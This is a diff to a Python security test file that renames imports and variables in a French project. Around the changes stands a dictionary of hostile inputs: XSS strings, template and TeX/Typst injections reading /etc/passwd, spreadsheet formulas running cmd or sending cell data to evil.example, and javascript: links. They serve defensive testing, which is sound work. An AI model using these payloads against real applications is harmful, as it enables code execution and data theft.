@@ -14,11 +14,11 @@ from pathlib import Path
 import yaml
 from PIL import Image
 
-from inspiractions.base.paths import PROJECT
+from inspiractions.base.files import PROJECT
 from inspiractions.model.action import Action
-from inspiractions.model.dossier import EnTeteDeDossier
-from inspiractions.model.glossaire import NOMS as GLOSSAIRES
-from inspiractions.model.schema import FicheField, champs_de
+from inspiractions.model.banque import EnTeteDeDossier
+from inspiractions.model.types import FicheField, champs_de
+from inspiractions.model.vocabulaire import GLOSSAIRES
 from tests.conftest import longueur
 
 # Short in CI; long by night: SOAK=1.
@@ -31,17 +31,17 @@ PIEGES: Mapping[str, str] = {
     "fins": "</script></title></textarea></style></noscript></template><script>window.__xss=5</script><!-- ]]> -->",
     "gabarit": "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>&#xE000;&#xE001;contenu&#xE002;&lt;script&gt;",
     "typst": '#import "@preview/x:1.0.0" #read("/etc/passwd") $x$ *g* _i_ `r` = t \\u{41} \\',
-    "formule": "=HYPERLINK(\"https://evil.example/?\"&A1;\"x\")",
+    "formule": '=HYPERLINK("https://evil.example/?"&A1;"x")',
     "formule-plus": "+cmd|'/c calc'!A1",
     "formule-moins": "-1+cmd|'/c calc'!A1",
     "formule-arobase": "@SUM(1+1)*cmd|'/c calc'!A1",
-    "formule-large": "＝HYPERLINK(\"https://evil.example/\")",
+    "formule-large": '＝HYPERLINK("https://evil.example/")',
     "lien": "[x](javascript:window.__xss=6) <javascript:window.__xss=7> ![x](data:text/html,x) vbscript:x",
     "tex": "}\\input{/etc/passwd} \\write18{id} @misc{x, title={y}} % $",
     "lignes": "fin\nER  - \nTY  - JOUR\nBEGIN:VEVENT\n---\n::error::x",
     "cles": "__proto__ constructor toString hasOwnProperty valueOf",
     "zero": "a\u200db\u200cc\u0301\u0301\u0301\u0301 \u00ad \U0001f468\u200d\U0001f469",
-}  # fmt: skip
+}
 URL = 'https://exemple.fr/\'"><script>window.__xss=8</script>{{7*7}}#read("/etc/passwd")?=1&a=1\U0001f468'
 # What Markdown lets through as text, wherever it stands.
 CORPS = r"""
@@ -89,22 +89,22 @@ def texte(value: object) -> str:
 def valeur(champ: FicheField, piege: str, fiche: str) -> object:
     """A value that the schema takes for a field, as hostile as it may be; ``None`` where nothing free can stand."""
     if champ.genre == "texte" or champ.cle in ("selection",):
-        found: object = piege
+        value: object = piege
     elif champ.genre == "groupe":
-        found = {cle: v for cle, enfant in champ.enfants.items() if (v := valeur(enfant, piege, fiche)) is not None}
+        value = {cle: v for cle, enfant in champ.enfants.items() if (v := valeur(enfant, piege, fiche)) is not None}
     elif champ.genre == "terme":
-        found = {"ages": AGE, "axes": AXE, "qpv": "oui", "leviers": "portage-politique"}.get(champ.vocabulaire, TERME)
+        value = {"ages": AGE, "axes": AXE, "qpv": "oui", "leviers": "portage-politique"}.get(champ.vocabulaire, TERME)
     elif champ.genre == "choix":
-        found = champ.choix[0]
+        value = champ.choix[0]
     elif champ.genre == "image":
-        found = "polyglotte.jpg"
+        value = "polyglotte.jpg"
     elif champ.genre == "id":
-        found = f"ancien-{fiche}"
+        value = f"ancien-{fiche}"
     elif champ.genre == "fiche":
-        found = "piege-balises" if fiche != "piege-balises" else "piege-svg"
+        value = "piege-balises" if fiche != "piege-balises" else "piege-svg"
     else:
-        found = _SIMPLES[champ.genre]
-    return [found] if champ.liste else found
+        value = _SIMPLES[champ.genre]
+    return [value] if champ.liste else value
 
 
 def fiche(nom: str, piege: str, **autres: object) -> str:
@@ -202,12 +202,14 @@ def _dossier(root: Path) -> None:
 def _enquete(root: Path) -> None:
     shutil.copytree(PROJECT / "formulaires", root / "formulaires")
     form = root / "formulaires" / "sej-2024.yml"
-    said = form.read_text("utf-8")
-    assert "Gouvernance : " in said
-    _ecrire(form, said.replace("Gouvernance : ", "Gouvernance <script>window.__xss=19</script> {{ 7*7 }} : "))
+    text = form.read_text("utf-8")
+    assert "Gouvernance : " in text
+    _ecrire(form, text.replace("Gouvernance : ", "Gouvernance <script>window.__xss=19</script> {{ 7*7 }} : "))
     for rang, piege in enumerate(PIEGES.values()):
         answer = {
-            "ville": "Aubervilliers", "publie": "oui", "reponses": {"gouvernance": piege, "intersectorialite": CORPS},
+            "ville": "Aubervilliers",
+            "publie": "oui",
+            "reponses": {"gouvernance": piege, "intersectorialite": CORPS},
             "partenaires": [{"partenaire": piege, "nature": piege}],
-        }  # fmt: skip
+        }
         _ecrire(root / "enquetes" / "sej-2024" / f"ville-{rang}.yml", texte(answer) + "\n")
